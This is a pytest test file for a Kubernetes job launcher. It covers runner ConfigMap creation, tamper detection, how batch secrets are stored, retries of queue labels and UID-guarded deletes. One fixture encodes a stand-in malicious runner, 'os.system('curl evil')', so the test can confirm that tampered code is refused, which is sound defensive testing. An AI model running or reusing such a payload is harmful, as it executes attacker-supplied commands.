"""Making what a job needs: what lies in the cluster for all jobs is looked for where the next job goes."""

from __future__ import annotations

import base64
import contextlib
import json
from collections.abc import Iterator
from types import SimpleNamespace
from typing import Any

import pytest
from servers.scripted import Scripted, page, refusal

from kinetic._backends.kube.client import JOB, Client
from kinetic._backends.kube.connection import FixedCredential
from kinetic._backends.kube.job_launcher import KEPT_FILE, JobLauncher, _create_outside_its_queue, delete_jobs
from kinetic._backends.kube.job_manifests import QUEUE_LABEL, RUNNER_FILE
from kinetic._backends.kube.transport import Access
from kinetic._project import runner_bundle
from kinetic._stores.parallel import Retry
from kinetic._wire.task import ENVIRONMENT_FILE
from kinetic.errors import LaunchError

MADE = page({"metadata": {"name": "kinetic-runner"}}, 201)
CODE = base64.b64encode(runner_bundle.build().data).decode()
THERE = page({"metadata": {"name": "kinetic-runner"}, "binaryData": {RUNNER_FILE: CODE}})


@contextlib.contextmanager
def cluster(*answers: object) -> Iterator[tuple[Client, Scripted]]:
    with Scripted(*answers) as server:
        access = Access(server=server.url, about="the test", credential=FixedCredential())
        with contextlib.closing(Client(access, "research", Retry(2, sleep=lambda _: None))) as client:
            yield client, server


def launcher_for(clients: list[Client]) -> JobLauncher:
    return JobLauncher(lambda: clients[-1], {})


def test_the_runner_is_looked_for_once() -> None:
    with cluster(refusal(404, "no such", "NotFound"), MADE, THERE) as (client, server):
        launcher = launcher_for([client])

        named = {launcher.ensure_runner() for _ in range(3)}

        assert len(named) == 1
        assert [each.method for each in server.asked] == ["GET", "POST", "GET"]


def test_the_runner_is_brought_to_the_cluster_that_the_same_context_means_now() -> None:
    with cluster(THERE) as (before, _), cluster(refusal(404, "no such", "NotFound"), MADE, THERE) as (now, server):
        clients = [before]
        launcher = launcher_for(clients)
        launcher.ensure_runner()

        clients.append(now)  # somebody made the cluster anew, and the kubeconfig with it
        launcher.ensure_runner()

        assert [each.method for each in server.asked] == ["GET", "POST", "GET"]


@pytest.mark.parametrize(
    "found",
    [
        {"binaryData": {RUNNER_FILE: base64.b64encode(b"import os; os.system('curl evil')").decode()}},
        {"binaryData": {RUNNER_FILE: CODE, "more.py": "eA=="}},
        {"binaryData": {RUNNER_FILE: CODE}, "data": {"more.py": "x"}},
        {},
    ],
    ids=["other code", "more files", "more text", "nothing"],
)
@pytest.mark.parametrize("was_there", [True, False])
def test_a_runner_that_is_not_ours_is_refused_and_runs_nothing(found: dict[str, Any], was_there: bool) -> None:
    theirs = page({"metadata": {"name": "kinetic-runner"}, **found})
    answers = [theirs] if was_there else [refusal(404, "no such", "NotFound"), MADE, theirs]

    with cluster(*answers) as (client, _), pytest.raises(LaunchError) as caught:
        launcher_for([client]).ensure_runner()

    assert caught.value.code == "runner-changed"
    assert caught.value.next.startswith("ask who did; then: kubectl delete configmap kinetic-runner-")


def test_everything_that_a_batch_keeps_is_in_its_secret_once() -> None:
    inputs = 15_000
    kept = {
        "captured": {"TOKEN": "t" * 400_000},
        "environ": {"HOME": "/home/ann"},
        "addresses": [f"gs://bucket/datasets/some-set/part-{number:08}.parquet" for number in range(inputs)],
        "interpreter": "/usr/bin/python3",
        "pod": {"image": "python:3.11-slim"},
    }

    with cluster(page({"metadata": {"name": "kinetic-grp"}}, 201)) as (client, server):
        launcher_for([client]).keep("grp-12345678", "ann", kept, [bytes(32)] * inputs)

        data = json.loads(server.asked[0].body)["data"]

    assert json.loads(base64.b64decode(data[ENVIRONMENT_FILE])) == kept["captured"]
    assert json.loads(base64.b64decode(data[KEPT_FILE])) == {
        "interpreter": "/usr/bin/python3",
        "pod": {"image": "python:3.11-slim"},
        "keys": inputs,
    }


def test_a_job_gets_its_queue_at_once_where_a_policy_wants_it_from_the_beginning() -> None:
    manifest = {"metadata": {"name": "kinetic-j", "labels": {QUEUE_LABEL: "team", "app": "kinetic"}}}
    denied = refusal(403, "admission webhook denied the request: a queue is needed", "Forbidden")

    with cluster(denied, page(manifest, 201)) as (client, server):
        _create_outside_its_queue(client, JOB, manifest, default_queue="")

        labels = [json.loads(each.body)["metadata"]["labels"] for each in server.asked]

    assert labels == [{"app": "kinetic"}, {"app": "kinetic", QUEUE_LABEL: "team"}]


@pytest.mark.parametrize(
    ("group", "index", "attempt", "shared"),
    [("grp-1", 1, 0, 1), ("grp-1", 2, 0, None), ("grp-1", 1, 1, None), ("grp-2", 0, 0, None), ("", None, None, None)],
)
def test_a_child_uses_a_key_of_its_batch_only_where_that_is_its_own(group, index, attempt, shared) -> None:
    launcher = launcher_for([])
    launcher._keys_of["grp-1"] = 2

    launch = SimpleNamespace(group=group, order=SimpleNamespace(index=index, group_attempt=attempt))

    assert launcher._shared_key(launch) == shared


def test_what_is_deleted_is_the_object_that_was_seen_and_not_a_later_one_of_its_name() -> None:
    with cluster(page({})) as (client, server):
        delete_jobs(client, [{"kind": "Job", "metadata": {"name": "kinetic-a", "uid": "u-1"}}])

        [asked] = server.asked

    assert asked.method == "DELETE"
    assert json.loads(asked.body)["preconditions"] == {"uid": "u-1"}
